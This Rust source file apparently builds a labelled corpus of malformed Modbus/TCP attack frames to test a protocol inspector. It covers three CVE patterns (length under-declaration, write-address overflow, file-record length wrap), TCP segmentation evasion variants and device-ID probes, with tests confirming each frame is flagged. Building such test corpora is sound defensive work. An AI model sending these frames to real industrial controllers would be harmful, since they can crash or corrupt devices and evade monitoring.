//! Attack-variant enumerator.
//!
//! Each template reproduces a named exploit pattern from a handful of
//! numeric knobs, so a message can be rebuilt from its metadata alone.
//! Templates are capped to their first N messages in generation order.

use mbcorp_wire::catalog::{FILE_RECORD_REFERENCE_TYPE, MEI_READ_DEVICE_ID};
use mbcorp_wire::{
    ConstraintCatalog, Envelope, OperationKind, Operation, Violation, build_conforming_request,
    frame,
};

use super::valid::DEFAULT_UNIT_ID;
use super::{TransactionIds, first_n};
use crate::message::{Category, MetaKey, Message};

pub const LENGTH_CONFUSION_TID_BASE: u16 = 10000;
pub const WRITE_WINDOW_TID_BASE: u16 = 11000;
pub const FILE_RECORD_TID_BASE: u16 = 12000;
pub const SEGMENTATION_TID_BASE: u16 = 13000;
pub const DEVICE_ID_TID_BASE: u16 = 14000;

pub const LENGTH_CONFUSION_CAP: usize = 50;
pub const WRITE_WINDOW_CAP: usize = 30;
pub const FILE_RECORD_CAP: usize = 20;
pub const SEGMENTATION_CAP: usize = 80;
pub const DEVICE_ID_CAP: usize = 10;

pub const CVE_LENGTH_CONFUSION: &str = "CVE-2019-14462";
pub const CVE_WRITE_WINDOW: &str = "CVE-2022-0367";
pub const CVE_FILE_RECORD_WRAP: &str = "CVE-2022-20685";
pub const TCP_SEGMENTATION: &str = "tcp_segmentation";
pub const MEI_DEVICE_ID_PROBE: &str = "mei_device_id_probe";

/// Read addresses used by the write-window template, in probe order.
const WRITE_WINDOW_READ_ADDRESSES: [u16; 32] = [
    99, 98, 97, 50, 0, 110, 111, 200, 255, 500, 1000, 5000, 10000, 32767, 65534, 101, 102, 103,
    104, 105, 106, 107, 108, 109, 150, 250, 1024, 2048, 4096, 8192, 16384, 32768,
];

/// `(write address, write quantity)` pairs that run past the address space.
const ESCAPING_WRITE_WINDOWS: [(u16, u16); 5] = [
    (0xFFFF, 1),
    (0xFFFE, 3),
    (0xFFF0, 17),
    (0xFF90, 121),
    (0xFFCE, 51),
];

/// Record-length pairs whose sum wraps a 16-bit byte counter.
const WRAPPING_RECORD_LENGTHS: [(u16, u16); 10] = [
    (0xFFFE, 0xFFFB),
    (0xFFFC, 0xFFF9),
    (0xFFFA, 0xFFF7),
    (0xFFF8, 0xFFF5),
    (0xFFF0, 0xFFED),
    (0xFFFF, 0xFFFC),
    (0xFFFD, 0xFFFA),
    (0xFFFB, 0xFFF8),
    (0xFFF9, 0xFFF6),
    (0xFFF5, 0xFFF2),
];

/// Declared length and operation-unit size of the segmentation carrier.
const CARRIER_DECLARED: u16 = 60;
const CARRIER_PDU_LEN: usize = 600;

const MULTI_SPLITS: [[usize; 2]; 10] = [
    [2, 5],
    [3, 7],
    [1, 4],
    [2, 6],
    [4, 8],
    [1, 3],
    [2, 4],
    [3, 6],
    [1, 5],
    [2, 7],
];

/// Enumerate every attack template in order, each capped.
#[must_use]
pub fn attack_messages(catalog: &ConstraintCatalog) -> Vec<Message> {
    let mut out = Vec::new();
    out.extend(first_n(
        length_confusion(),
        LENGTH_CONFUSION_CAP,
        "length_confusion",
    ));
    out.extend(first_n(
        write_window_escape(catalog),
        WRITE_WINDOW_CAP,
        "write_window_escape",
    ));
    out.extend(first_n(
        file_record_wrap(),
        FILE_RECORD_CAP,
        "file_record_wrap",
    ));
    out.extend(first_n(segmentation(), SEGMENTATION_CAP, "segmentation"));
    out.extend(first_n(
        device_id_probe(catalog),
        DEVICE_ID_CAP,
        "device_id_probe",
    ));
    out
}

fn attack(mnemonic: String, bytes: Vec<u8>, cve: &str, violation: Violation) -> Message {
    Message::new(Category::Attack, mnemonic, bytes)
        .with(MetaKey::Cve, cve)
        .with(MetaKey::Violation, violation.name())
}

fn raw_frame(transaction_id: u16, length: u16, pdu: &[u8]) -> Vec<u8> {
    frame(Envelope::new(transaction_id, 0, length, DEFAULT_UNIT_ID), pdu)
}

/// A read-holding-registers function code followed by zero fill.
fn zero_filled_read(pdu_len: usize) -> Vec<u8> {
    let mut pdu = vec![OperationKind::ReadHoldingRegisters.function_code()];
    pdu.resize(pdu_len.max(1), 0);
    pdu
}

/// Envelope length under-declaration metadata for a `declared` header over `pdu_len` bytes.
fn with_length_knobs(message: Message, declared: u16, pdu_len: usize) -> Message {
    let actual = ConstraintCatalog::expected_envelope_length(pdu_len);
    message
        .with(MetaKey::Declared, declared)
        .with(MetaKey::Actual, actual)
        .with(MetaKey::Delta, actual.abs_diff(usize::from(declared)))
}

// ── CVE-2019-14462: declared length shorter than the payload ────────────

fn length_confusion() -> Vec<Message> {
    let mut tids = TransactionIds::starting_at(LENGTH_CONFUSION_TID_BASE);
    let mut out = Vec::new();

    for declared in [5_u16, 10, 20, 30, 40, 50, 60] {
        for payload in [100_usize, 200, 300, 400, 500, 601] {
            if usize::from(declared) >= payload {
                continue;
            }
            out.push(confused_length(
                format!("cve14462_decl{declared}_actual{payload}"),
                tids.next_id(),
                declared,
                payload,
            ));
        }
    }
    // Smallest legal declaration overrun by a few bytes.
    let declared = 6_u16;
    for overflow in [1_usize, 2, 3, 5, 10, 50, 100, 200] {
        out.push(confused_length(
            format!("cve14462_overflow{overflow}b"),
            tids.next_id(),
            declared,
            usize::from(declared) + overflow,
        ));
    }
    out
}

fn confused_length(mnemonic: String, transaction_id: u16, declared: u16, payload: usize) -> Message {
    let message = attack(
        mnemonic,
        raw_frame(transaction_id, declared, &zero_filled_read(payload)),
        CVE_LENGTH_CONFUSION,
        Violation::LengthUnder,
    )
    .with(MetaKey::DeclaredLength, declared)
    .with(MetaKey::ActualPayload, payload)
    .with(MetaKey::OverflowBytes, payload - usize::from(declared));
    with_length_knobs(message, declared, payload)
}

// ── CVE-2022-0367: legal read window, write window past 0xFFFF ──────────

fn write_window_escape(catalog: &ConstraintCatalog) -> Vec<Message> {
    let rule = catalog.rule(OperationKind::ReadWriteMultipleRegisters);
    let code = rule.function_code();
    let read_legal = |address: u16| {
        rule.quantity.is_some_and(|limits| limits.contains(1))
            && !ConstraintCatalog::address_overflows(address, 1)
    };
    let writes: Vec<(u16, u16)> = ESCAPING_WRITE_WINDOWS
        .into_iter()
        .filter(|&(address, quantity)| {
            rule.write_quantity
                .is_some_and(|limits| limits.contains(quantity))
                && ConstraintCatalog::address_overflows(address, quantity)
        })
        .collect();
    if writes.is_empty() {
        return Vec::new();
    }

    let mut tids = TransactionIds::starting_at(WRITE_WINDOW_TID_BASE);
    WRITE_WINDOW_READ_ADDRESSES
        .into_iter()
        .filter(|&address| read_legal(address))
        .zip(writes.iter().copied().cycle())
        .map(|(read_address, (write_address, write_quantity))| {
            let values = vec![0_u16; usize::from(write_quantity)];
            let op = Operation::read_write_registers(read_address, 1, write_address, &values);
            attack(
                format!("cve0367_addr{read_address}_w{write_address:#06x}_q{write_quantity}"),
                build_conforming_request(tids.next_id(), DEFAULT_UNIT_ID, &op),
                CVE_WRITE_WINDOW,
                Violation::WriteAddressOverflow(code),
            )
            .with(MetaKey::ReadAddress, read_address)
            .with(MetaKey::ReadQuantity, 1_u16)
            .with(MetaKey::WriteAddress, write_address)
            .with(MetaKey::WriteQuantity, write_quantity)
        })
        .collect()
}

// ── CVE-2022-20685: record lengths that wrap a 16-bit counter ───────────

/// Fourteen-byte file-record body: reference type at 0, record lengths at 5 and 8.
fn wrapping_records(first: u16, second: u16, len: usize) -> Vec<u8> {
    let mut payload = vec![0_u8; len.max(14)];
    payload[0] = FILE_RECORD_REFERENCE_TYPE;
    payload[5..7].copy_from_slice(&first.to_be_bytes());
    payload[8..10].copy_from_slice(&second.to_be_bytes());
    payload.truncate(len);
    payload
}

fn file_record_message(
    mnemonic: String,
    transaction_id: u16,
    byte_count: u8,
    payload: Vec<u8>,
) -> Message {
    let code = OperationKind::WriteFileRecord.function_code();
    let op = Operation::WriteFileRecord {
        byte_count,
        payload,
    };
    attack(
        mnemonic,
        build_conforming_request(transaction_id, DEFAULT_UNIT_ID, &op),
        CVE_FILE_RECORD_WRAP,
        Violation::RecordLengthOverrun(code),
    )
}

fn file_record_wrap() -> Vec<Message> {
    let mut tids = TransactionIds::starting_at(FILE_RECORD_TID_BASE);
    let mut out = Vec::new();
    let (first, second) = WRAPPING_RECORD_LENGTHS[0];

    out.push(
        file_record_message(
            "cve20685_standard".to_owned(),
            tids.next_id(),
            14,
            wrapping_records(first, second, 14),
        )
        .with(MetaKey::Variant, "standard")
        .with(MetaKey::RecordLength1, first)
        .with(MetaKey::RecordLength2, second),
    );
    for (first, second) in WRAPPING_RECORD_LENGTHS {
        out.push(
            file_record_message(
                format!("cve20685_rl1_{first:#06x}_rl2_{second:#06x}"),
                tids.next_id(),
                14,
                wrapping_records(first, second, 14),
            )
            .with(MetaKey::Variant, "overflow_pair")
            .with(MetaKey::RecordLength1, first)
            .with(MetaKey::RecordLength2, second),
        );
    }
    for data_len in [10_u8, 14, 20, 30, 50, 100, 200, 250] {
        out.push(
            file_record_message(
                format!("cve20685_datalen_{data_len}"),
                tids.next_id(),
                data_len,
                wrapping_records(first, second, usize::from(data_len)),
            )
            .with(MetaKey::Variant, "data_length")
            .with(MetaKey::RecordLength1, first)
            .with(MetaKey::RecordLength2, second)
            .with(MetaKey::DataLength, data_len),
        );
    }
    out
}

// ── Segmentation evasion ────────────────────────────────────────────────

fn segmentation() -> Vec<Message> {
    let mut tids = TransactionIds::starting_at(SEGMENTATION_TID_BASE);
    let carrier_pdu = zero_filled_read(CARRIER_PDU_LEN);
    let carrier = |transaction_id: u16, mnemonic: String, variant: &str| {
        let message = attack(
            mnemonic,
            raw_frame(transaction_id, CARRIER_DECLARED, &carrier_pdu),
            TCP_SEGMENTATION,
            Violation::LengthUnder,
        )
        .with(MetaKey::Variant, variant);
        with_length_knobs(message, CARRIER_DECLARED, CARRIER_PDU_LEN)
    };
    let carrier_len = mbcorp_wire::ENVELOPE_LEN + CARRIER_PDU_LEN;
    let mut out = Vec::new();

    for split_point in 1_usize..=10 {
        out.push(
            carrier(tids.next_id(), format!("tcp_seg_split_{split_point}"), "split")
                .with(MetaKey::SplitPoint, split_point)
                .with(MetaKey::Segment1Len, split_point)
                .with(MetaKey::Segment2Len, carrier_len - split_point),
        );
    }
    for splits in MULTI_SPLITS {
        out.push(
            carrier(
                tids.next_id(),
                format!("tcp_seg_multi_{}_{}", splits[0], splits[1]),
                "multi_split",
            )
            .with(MetaKey::SplitPoints, &splits[..]),
        );
    }
    for overlap_start in [2_usize, 4, 6] {
        for overlap_length in [1_usize, 2, 3] {
            out.push(
                carrier(
                    tids.next_id(),
                    format!("tcp_seg_overlap_{overlap_start}_{overlap_length}"),
                    "overlap",
                )
                .with(MetaKey::OverlapStart, overlap_start)
                .with(MetaKey::OverlapLength, overlap_length),
            );
        }
    }

    // A legal request followed by an under-declared one in the same stream.
    let read = Operation::ReadHoldingRegisters {
        address: 0,
        quantity: 1,
    };
    let bad_pdu = zero_filled_read(101);
    let bad_declared = 6_u16;
    for index in 0..20 {
        let first = build_conforming_request(tids.next_id(), DEFAULT_UNIT_ID, &read);
        let first_len = first.len();
        let mut stream = first;
        stream.extend(raw_frame(tids.next_id(), bad_declared, &bad_pdu));
        let message = attack(
            format!("tcp_seg_pipeline_{index}"),
            stream,
            TCP_SEGMENTATION,
            Violation::LengthUnder,
        )
        .with(MetaKey::Variant, "pipeline")
        .with(MetaKey::FirstFrameLen, first_len);
        out.push(with_length_knobs(message, bad_declared, bad_pdu.len()));
    }
    out
}

// ── Device identification probe ─────────────────────────────────────────

fn device_id_probe(catalog: &ConstraintCatalog) -> Vec<Message> {
    let code = OperationKind::ReadDeviceIdentification.function_code();
    let legal_codes = catalog.device_id_read_codes();
    let mut tids = TransactionIds::starting_at(DEVICE_ID_TID_BASE);
    let mut out = Vec::new();

    let probe = |tid: u16, mei_type: u8, read_code: u8, object_id: u8| {
        let op = Operation::ReadDeviceIdentification {
            mei_type,
            read_code,
            object_id,
        };
        build_conforming_request(tid, DEFAULT_UNIT_ID, &op)
    };

    for read_code in [0x00_u8, 0x05, 0x7F, 0xFF]
        .into_iter()
        .filter(|read_code| !legal_codes.contains(read_code))
    {
        for object_id in [0x00_u8, 0x80] {
            out.push(
                attack(
                    format!("mei_probe_rc{read_code:#04x}_obj{object_id:#04x}"),
                    probe(tids.next_id(), MEI_READ_DEVICE_ID, read_code, object_id),
                    MEI_DEVICE_ID_PROBE,
                    Violation::InvalidReadCode(code),
                )
                .with(MetaKey::MeiType, MEI_READ_DEVICE_ID)
                .with(MetaKey::ReadCode, read_code)
                .with(MetaKey::ObjectId, object_id),
            );
        }
    }
    for mei_type in [0x0D_u8, 0x0F] {
        out.push(
            attack(
                format!("mei_probe_type{mei_type:#04x}"),
                probe(tids.next_id(), mei_type, 0x01, 0x00),
                MEI_DEVICE_ID_PROBE,
                Violation::InvalidMeiType(code),
            )
            .with(MetaKey::MeiType, mei_type)
            .with(MetaKey::ReadCode, 0x01_u8)
            .with(MetaKey::ObjectId, 0x00_u8),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::message::MetaValue;
    use mbcorp_wire::inspect;
    use std::collections::BTreeSet;

    fn messages() -> Vec<Message> {
        attack_messages(&ConstraintCatalog::standard())
    }

    fn by_cve<'a>(messages: &'a [Message], cve: &str) -> Vec<&'a Message> {
        messages
            .iter()
            .filter(|m| m.metadata().get(MetaKey::Cve).and_then(MetaValue::as_text) == Some(cve))
            .collect()
    }

    #[test]
    fn template_counts_respect_caps() {
        let messages = messages();
        assert_eq!(by_cve(&messages, CVE_LENGTH_CONFUSION).len(), 50);
        assert_eq!(by_cve(&messages, CVE_WRITE_WINDOW).len(), 30);
        assert_eq!(by_cve(&messages, CVE_FILE_RECORD_WRAP).len(), 19);
        assert_eq!(by_cve(&messages, TCP_SEGMENTATION).len(), 49);
        assert_eq!(by_cve(&messages, MEI_DEVICE_ID_PROBE).len(), 10);
    }

    #[test]
    fn mnemonics_are_unique() {
        let messages = messages();
        let names: BTreeSet<&str> = messages.iter().map(Message::mnemonic).collect();
        assert_eq!(names.len(), messages.len());
    }

    #[test]
    fn every_attack_is_flagged_by_its_own_violation() {
        let catalog = ConstraintCatalog::standard();
        for message in messages() {
            let violation = message.violation().expect("violation recorded");
            let report = inspect(&catalog, message.bytes());
            assert!(
                report.has(violation),
                "{}: {:?}",
                message.mnemonic(),
                report.names()
            );
        }
    }

    #[test]
    fn write_window_keeps_the_read_window_legal() {
        let catalog = ConstraintCatalog::standard();
        for message in by_cve(&messages(), CVE_WRITE_WINDOW) {
            let report = inspect(&catalog, message.bytes());
            assert_eq!(report.names(), vec!["fc17_write_address_overflow"]);
        }
    }

    #[test]
    fn record_lengths_sit_at_fixed_offsets() {
        let messages = messages();
        let standard = messages
            .iter()
            .find(|m| m.mnemonic() == "cve20685_standard")
            .expect("standard variant");
        let pdu = &standard.bytes()[7..];
        assert_eq!(pdu[0], 0x15);
        assert_eq!(pdu[1], 14);
        assert_eq!(&pdu[7..9], &[0xFF, 0xFE]);
        assert_eq!(&pdu[10..12], &[0xFF, 0xFB]);
        assert_eq!(standard.meta_int(MetaKey::RecordLength1), Some(0xFFFE));
        assert_eq!(standard.meta_int(MetaKey::RecordLength2), Some(0xFFFB));
    }

    #[test]
    fn pipeline_second_frame_is_under_declared() {
        let catalog = ConstraintCatalog::standard();
        let messages = messages();
        let pipeline = messages
            .iter()
            .find(|m| m.mnemonic() == "tcp_seg_pipeline_0")
            .expect("pipeline variant");
        let split = usize::try_from(pipeline.meta_int(MetaKey::FirstFrameLen).expect("len"))
            .expect("fits");
        let (first, second) = pipeline.bytes().split_at(split);
        assert!(inspect(&catalog, first).is_conforming());
        assert!(inspect(&catalog, second).has("mbap_length_under"));
        assert_eq!(pipeline.meta_int(MetaKey::Delta), Some(96));
    }
}
